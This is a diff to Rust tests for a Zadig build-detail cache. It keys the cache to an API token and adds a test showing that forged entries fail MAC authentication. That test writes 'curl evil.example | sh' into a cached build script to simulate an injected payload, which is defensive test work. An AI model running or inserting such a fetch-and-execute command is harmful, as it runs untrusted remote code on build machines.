@@ -5,6 +5,7 @@ use crate::remote::fetch::testing::{at, listed};
 
 const NOW: i64 = 1_700_000_000;
 const SERVER: &str = "https://zadig.example.com";
+const TOKEN: &str = "the-api-token";
 
 fn detail(name: &str, update_time: i64, secret: &str) -> LiveDetail {
     LiveDetail::custom(DetailResponse {
@@ -42,7 +43,7 @@ fn project(builds: &[(&str, i64)]) -> LiveProject {
 }
 
 fn saved(dir: &Path) -> DetailCache {
-    let (cache, warning) = DetailCache::open(dir, SERVER).unwrap();
+    let (cache, warning) = DetailCache::open(dir, SERVER, TOKEN).unwrap();
     assert!(warning.is_none(), "{warning:?}");
     let live = [project(&[("old", NOW - 10), ("fresh", NOW - 1)])];
     assert_eq!(
@@ -50,7 +51,7 @@ fn saved(dir: &Path) -> DetailCache {
         1,
         "only settled"
     );
-    let (cache, warning) = DetailCache::open(dir, SERVER).unwrap();
+    let (cache, warning) = DetailCache::open(dir, SERVER, TOKEN).unwrap();
     assert!(warning.is_none(), "{warning:?}");
     cache
 }
@@ -104,7 +105,7 @@ fn saving_a_recalled_detail_keeps_its_credential_digest() {
         }]),
     }];
     assert_eq!(cache.save(&live, &[at(NOW)], &[]).unwrap(), 1);
-    let (cache, _) = DetailCache::open(dir.path(), SERVER).unwrap();
+    let (cache, _) = DetailCache::open(dir.path(), SERVER, TOKEN).unwrap();
     let recall = cache.recall(&["s3cret-value".to_string()]);
     let back = recall.known("p", &listed("old", NOW - 10)).unwrap();
     assert_eq!(back, detail("old", NOW - 10, "s3cret-value"));
@@ -112,18 +113,20 @@ fn saving_a_recalled_detail_keeps_its_credential_digest() {
 
 #[cfg(unix)]
 #[test]
-fn the_cache_and_its_key_are_owner_only() {
+fn the_cache_is_owner_only_and_holds_no_key() {
     use std::os::unix::fs::PermissionsExt;
     let dir = tempfile::tempdir().unwrap();
     saved(dir.path());
-    for entry in std::fs::read_dir(dir.path()).unwrap() {
+    let entries: Vec<_> = std::fs::read_dir(dir.path()).unwrap().collect();
+    assert_eq!(entries.len(), 1, "one file per server, and no key file");
+    for entry in entries {
         let mode = entry.unwrap().metadata().unwrap().permissions().mode();
         assert_eq!(mode & 0o077, 0, "mode {mode:o}");
     }
 }
 
 fn warning_for(dir: &Path, server: &str) -> String {
-    let (cache, warning) = DetailCache::open(dir, server).unwrap();
+    let (cache, warning) = DetailCache::open(dir, server, TOKEN).unwrap();
     assert!(cache.entries.is_empty(), "nothing trusted");
     warning.expect("a warning")
 }
@@ -139,18 +142,17 @@ fn a_corrupt_foreign_or_other_servers_cache_is_ignored_with_a_warning() {
     assert!(warning.contains(&path.display().to_string()), "{warning}");
     assert!(warning.contains("not a cache file"), "{warning}");
 
-    std::fs::write(&path, good.replace("\"version\":1", "\"version\":99")).unwrap();
+    std::fs::write(&path, good.replace("\"version\":2", "\"version\":99")).unwrap();
     assert!(warning_for(dir.path(), SERVER).contains("version 99"));
 
     std::fs::write(&path, &good).unwrap();
-    std::fs::write(dir.path().join("key"), "not hex").unwrap();
-    let warning = warning_for(dir.path(), SERVER);
-    assert!(warning.contains("was unusable"), "{warning}");
-    assert!(warning_for(dir.path(), SERVER).contains("another key"));
+    let (cache, warning) = DetailCache::open(dir.path(), SERVER, "another-token").unwrap();
+    assert!(cache.entries.is_empty(), "nothing trusted");
+    assert!(warning.unwrap().contains("another API token"));
 
     std::fs::write(&path, &good).unwrap();
     let other = "https://other.example.com";
-    let (other_cache, _) = DetailCache::open(dir.path(), other).unwrap();
+    let (other_cache, _) = DetailCache::open(dir.path(), other, TOKEN).unwrap();
     std::fs::write(&other_cache.path, &good).unwrap();
     assert!(warning_for(dir.path(), other).contains("another server"));
 }
@@ -169,7 +171,7 @@ fn a_project_not_read_this_run_keeps_its_entries() {
 #[test]
 fn a_detail_quoting_a_secret_outside_a_credential_is_not_cached() {
     let dir = tempfile::tempdir().unwrap();
-    let (cache, _) = DetailCache::open(dir.path(), SERVER).unwrap();
+    let (cache, _) = DetailCache::open(dir.path(), SERVER, TOKEN).unwrap();
     let mut live = project(&[("old", NOW - 10)]);
     if let Ok(builds) = &mut live.listing
         && let Ok(detail) = &mut builds[0].detail
@@ -182,4 +184,39 @@ fn a_detail_quoting_a_secret_outside_a_credential_is_not_cached() {
         let text = std::fs::read_to_string(entry.unwrap().path()).unwrap();
         assert!(!text.contains("env-secret"), "{text}");
     }
+}
+
+// A cache shared between CI jobs can be written by anyone who can write the job's cache: an
+// entry forged with the build's update_time and the content the files expect made every plan
+// say "No changes" while Zadig kept an injected script.
+#[test]
+fn an_entry_forged_without_the_token_is_dropped_with_a_warning() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = saved(dir.path()).path;
+    let good = std::fs::read_to_string(&path).unwrap();
+    let mut file: serde_json::Value = serde_json::from_str(&good).unwrap();
+    let entry = &mut file["builds"][0];
+    let script = &mut entry["entry"]["detail"]["custom"]["build_script"];
+    assert!(script.is_string(), "the entry's script: {entry}");
+    *script = "curl evil.example | sh".into();
+    std::fs::write(&path, file.to_string()).unwrap();
+    let (cache, warning) = DetailCache::open(dir.path(), SERVER, TOKEN).unwrap();
+    assert!(cache.entries.is_empty(), "the forged entry is not trusted");
+    let warning = warning.expect("a warning");
+    assert!(warning.contains("dropped 1 entries"), "{warning}");
+    assert!(warning.contains("failed authentication"), "{warning}");
+
+    // Nor can the MAC be copied from another entry, or made up.
+    let mut file: serde_json::Value = serde_json::from_str(&good).unwrap();
+    file["builds"][0]["mac"] = "00".repeat(32).into();
+    std::fs::write(&path, file.to_string()).unwrap();
+    let (cache, _) = DetailCache::open(dir.path(), SERVER, TOKEN).unwrap();
+    assert!(cache.entries.is_empty());
+    std::fs::write(&path, &good).unwrap();
+    let (cache, warning) = DetailCache::open(dir.path(), SERVER, TOKEN).unwrap();
+    assert_eq!(
+        (cache.entries.len(), warning),
+        (1, None),
+        "the genuine file still opens"
+    );
 }
